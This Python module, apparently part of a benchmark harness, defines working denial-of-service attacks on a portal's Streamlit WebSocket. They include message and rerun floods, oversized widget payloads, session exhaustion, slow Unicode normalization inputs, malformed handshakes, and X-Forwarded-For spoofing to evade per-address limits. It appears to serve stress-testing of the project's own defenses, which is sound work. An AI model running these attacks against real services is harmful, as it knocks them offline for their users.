"""Attacks on the WebSocket of a portal. `bench.attacks` repeats each attack in its own process."""

import time
from contextlib import suppress

from websockets.exceptions import WebSocketException
from websockets.sync.client import ClientConnection, connect
from websockets.typing import Origin, Subprotocol

from bench.target import ATTACKER, Target
from web.streamlit_compat import BackMsg


def _open_session(target: Target, address: str = ATTACKER) -> ClientConnection:
    return connect(
        f"ws://{target.host}/_stcore/stream",
        subprotocols=[Subprotocol("streamlit")],
        origin=Origin(target.url),
        sock=target.connect(address),
        additional_headers={"X-Forwarded-For": address},
        max_size=None,
        open_timeout=60,
        ping_interval=None,
        close_timeout=0.1,
    )


def _make_message(**fields: object) -> bytes:
    message = BackMsg()
    for name, value in fields.items():
        setattr(message, name, value)
    return bytes(message.SerializeToString())


def _make_rerun(**fields: object) -> bytes:
    message = BackMsg()
    message.rerun_script.SetInParent()
    for name, value in fields.items():
        setattr(message.rerun_script, name, value)
    return bytes(message.SerializeToString())


def request_git_info(target: Target) -> None:
    """Request git information 1,000 times, in messages of 8 bytes."""
    with _open_session(target) as connection:
        for _ in range(1000):
            connection.send(_make_message(load_git_info=True))
        time.sleep(5)


def trickle_git_info(target: Target) -> None:
    """Request git information in messages of 8 bytes, 469 bytes a second."""
    with _open_session(target) as connection:
        while True:
            connection.send(_make_message(load_git_info=True))
            time.sleep(8 / 469)


def request_empty_runs(target: Target) -> None:
    """Request 5,000 reruns of the page at once, without values of widgets."""
    with _open_session(target) as connection:
        for _ in range(5000):
            connection.send(_make_rerun())
        time.sleep(5)


def request_many_runs(target: Target) -> None:
    """Request 270 reruns a second on each of 20 connections."""
    connections = [_open_session(target) for _ in range(20)]
    while True:
        for connection in connections:
            connection.send(_make_rerun())
        time.sleep(1 / 270)


def rerun_from_four_addresses(target: Target) -> None:
    """Rerun the page as often as allowed, in one tab at each of four addresses."""
    connections = [_open_session(target, f"203.0.113.{number}") for number in range(101, 105)]
    while True:
        for connection in connections:
            connection.send(_make_rerun())
        time.sleep(1 / 20)


def send_big_messages(target: Target) -> None:
    """Send values of widgets that do not exist, with ids of 7.9 MB."""
    with _open_session(target) as connection:
        while True:
            message = BackMsg()
            widget = message.rerun_script.widget_states.widgets.add()
            widget.id, widget.trigger_value = "x" * 7_900_000, True
            connection.send(message.SerializeToString())
            time.sleep(0.1)


def send_tiny_frames(target: Target) -> None:
    """Send frames of two bytes until the connection is refused."""
    with _open_session(target) as connection:
        connection.socket.settimeout(1)
        connection.socket.sendall(b"\x82\x82\0\0\0\0\x38\x01" * 100_000)


def open_sessions(target: Target) -> None:
    """Open as many sessions as one address may have."""
    connections = []
    with suppress(OSError, WebSocketException):
        for _ in range(199):
            connections.append(_open_session(target))
            connections[-1].send(_make_rerun())
    while True:
        for connection in connections:
            connection.send(_make_rerun())
            time.sleep(0.02)


def send_many_widgets(target: Target) -> None:
    """Send messages with 120,000 empty widget values."""
    connections = [_open_session(target) for _ in range(4)]
    message = BackMsg()
    for _ in range(120_000):
        message.rerun_script.widget_states.widgets.add()
    data = message.SerializeToString()
    while True:
        for connection in connections:
            connection.send(data)
        time.sleep(0.1)


def send_combining_marks(target: Target) -> None:
    """Open links with combining marks that take quadratic time to sort."""
    with _open_session(target) as connection:
        text = "a" + "\u0301" * 16_000 + "\u0316" * 16_000
        while True:
            connection.send(_make_rerun(query_string=f"description={text}"))
            time.sleep(0.2)


def send_slow_texts(target: Target) -> None:
    """Open links with the texts that take longest to normalize, in 40 tabs."""
    text = ("\u0ba8\u0bcd\ufdfa\u0915\u094d\u200d\u0130" * 1500)[:10_000]
    connections = [_open_session(target) for _ in range(40)]
    while True:
        for number, connection in enumerate(connections):
            # Each text is new, because the portal caches cleaned texts.
            connection.send(_make_rerun(query_string=f"description={number}{time.time()}{text}"))
        time.sleep(0.05)


def send_failing_handshakes(target: Target) -> None:
    """Send handshakes that uvicorn accepts and the library websockets then refuses."""
    request = (
        f"GET /_stcore/stream HTTP/1.1\r\nHost: {target.host}\r\n"
        f"X-Forwarded-For: {ATTACKER}\r\n"
        "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
        "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nContent-Length: 5\r\n\r\n"
    ).encode()
    connections = []
    while True:
        connections.append(target.connect(ATTACKER))
        connections[-1].sendall(request)
        if len(connections) > 5_000:
            connections.pop(0).close()
        time.sleep(0.02)
